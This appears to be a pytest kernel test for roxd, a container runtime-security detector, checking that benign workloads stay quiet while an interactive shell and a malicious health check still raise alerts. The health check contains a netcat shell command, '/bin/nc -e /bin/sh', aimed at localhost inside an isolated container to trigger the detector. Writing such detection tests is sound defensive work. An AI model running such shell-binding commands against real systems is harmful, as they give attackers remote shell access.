"""Issue 21 on the real kernel: a handful of the benign suite's workloads (bench/benign) raise no
alert under roxd with the shipped configuration and rules, while the same sessions doing what
an attacker does still alert: a shell in an exec session with a terminal, a health check that
runs `nc -e`."""

from __future__ import annotations

import shutil
import subprocess
import tempfile
import uuid
from pathlib import Path
from typing import Any

import pytest

from bench.benign import image
from bench.benign.harness import Ctx
from bench.benign.workloads import by_name
from tests.conftest import REPO, start_roxd

pytestmark = pytest.mark.kernel

QUICK = ("nginx-healthcheck-shell", "nginx-exec-probe", "operator-exec", "build-dpkg-install",
         "tar-backup")


@pytest.fixture(scope="module")
def benign_image(docker_engine: Any) -> str:
    try:
        return image.build()
    except (subprocess.CalledProcessError, OSError) as exc:
        pytest.fail(f"the benign suite's image could not be built offline: {exc} "
                    "(scripts/setup.sh downloads its archives)")


def _alerts_in(rp: Any, ids: set[str]) -> list[dict[str, Any]]:
    return rp.matching(lambda o: o.get("type") == "alert"
                       and (o.get("container") or {}).get("id") in ids)


def test_benign_workloads_are_quiet_and_attacks_in_the_same_sessions_are_not(
        benign_image: str, docker_engine: Any) -> None:
    workdir = Path(tempfile.mkdtemp(prefix="roxd-benign-"))
    rp = start_roxd(workdir, config=(REPO / "config" / "roxd.toml").read_text())
    ctxs: list[Ctx] = []
    try:
        rp.wait_ready()
        for name in QUICK:
            ctx = Ctx(name)
            ctxs.append(ctx)
            by_name()[name].start(ctx)
            assert ctx.container_ids, name
        # the same kinds of session, doing what an attacker does
        tag = uuid.uuid4().hex[:6]
        person = docker_engine.containers.run(
            "roxd-test/busybox:latest", ["sh", "-c", "sleep 120"], detach=True,
            name=f"roxd-benign-tty-{tag}", network_mode="none")
        evil = docker_engine.containers.run(
            "roxd-test/busybox:latest", ["sh", "-c", "sleep 120"], detach=True,
            name=f"roxd-benign-hc-{tag}", network_mode="none",
            healthcheck={"test": ["CMD-SHELL", "/bin/nc -e /bin/sh 127.0.0.1 9 || true"],
                         "interval": 1_000_000_000, "timeout": 2_000_000_000})
        try:
            person.exec_run(["sh", "-c", f"echo {tag}"], tty=True)
            shell = rp.wait_for(
                lambda o: o.get("type") == "alert" and o["rule"]["id"] ==
                "foothold.shell-in-container" and (o.get("container") or {}).get("id")
                == person.id, timeout=20, message="a foothold alert for an interactive shell")
            assert shell["process"]["session"] in ("interactive", "unknown")
            nc = rp.wait_for(
                lambda o: o.get("type") == "alert" and o["rule"]["id"] == "foothold.netcat-exec"
                and (o.get("container") or {}).get("id") == evil.id, timeout=30,
                message="a netcat alert from the malicious health check")
            # the health check's nc is a child of its `/bin/sh -c` (or the shell itself
            # exec'd it): either way the session is the health check
            assert nc["process"]["session"] == "healthcheck", nc["process"]
        finally:
            for c in (person, evil):
                c.remove(force=True)
        # roxd has processed everything up to the attack alerts above; the benign ones came
        # before them on the same ring buffer
        for ctx in ctxs:
            alerts = _alerts_in(rp, ctx.container_ids)
            assert alerts == [], (ctx.workload, [(a["rule"]["id"], a["process"]["args"],
                                                  a["process"].get("session"),
                                                  # what the event was (the process part of a
                                                  # failure's diff hides it)
                                                  a.get("syscall") or a.get("file")
                                                  or a.get("connect")) for a in alerts])
        sessions = {o["process"].get("session") for o in rp.matching(
            lambda o: o.get("type") == "exec"
            and (o.get("container") or {}).get("id") in ctxs[0].container_ids
            and o["process"]["args"][:2] == ["/bin/sh", "-c"])}
        assert "healthcheck" in sessions, sessions
    finally:
        for ctx in ctxs:
            ctx.cleanup()
        rp.stop()
        shutil.rmtree(workdir, ignore_errors=True)
